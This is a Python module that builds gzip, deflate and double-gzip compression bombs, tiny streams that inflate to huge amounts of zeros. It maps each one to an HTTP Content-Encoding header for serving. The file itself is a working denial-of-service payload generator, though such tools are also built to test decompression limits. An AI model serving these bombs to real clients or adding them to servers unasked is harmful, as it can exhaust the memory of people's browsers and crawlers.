"""Compression bombs, built in well under a second: n MiB of zeros as gzip or deflate.

Each MiB of zeros is compressed once and the same bytes repeated (a full flush makes every
block's compressed form identical), then wrapped with the right header and checksum, so a
1 GiB bomb costs about 1 MB of memory to build and serve.
"""

from __future__ import annotations

import gzip
import struct
import zlib

MIB = 1024 * 1024


def _raw_deflate(mib: int) -> bytes:
    block = bytes(MIB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (mib - 1) + packer.flush()


def gzip_bomb(mib: int) -> bytes:
    """A gzip member that inflates to ``mib`` MiB of zeros."""
    crc = 0
    block = bytes(MIB)
    for _ in range(mib):
        crc = zlib.crc32(block, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + _raw_deflate(mib) + struct.pack("<II", crc, (mib * MIB) & 0xFFFFFFFF)


def deflate_bomb(mib: int) -> bytes:
    """A zlib stream (HTTP ``deflate``) that inflates to ``mib`` MiB of zeros."""
    adler = 1
    block = bytes(MIB)
    for _ in range(mib):
        adler = zlib.adler32(block, adler)
    return b"\x78\xda" + _raw_deflate(mib) + struct.pack(">I", adler)


def stacked_gzip_bomb(mib: int) -> bytes:
    """``Content-Encoding: gzip, gzip``: the gzip bomb gzipped again (a few KB)."""
    return gzip.compress(gzip_bomb(mib), 9)


BOMBS = {
    "gzip": ("gzip", gzip_bomb),
    "gzip, gzip": ("gzip, gzip", stacked_gzip_bomb),
    "deflate": ("deflate", deflate_bomb),
}
"""Name → (Content-Encoding header, builder)."""
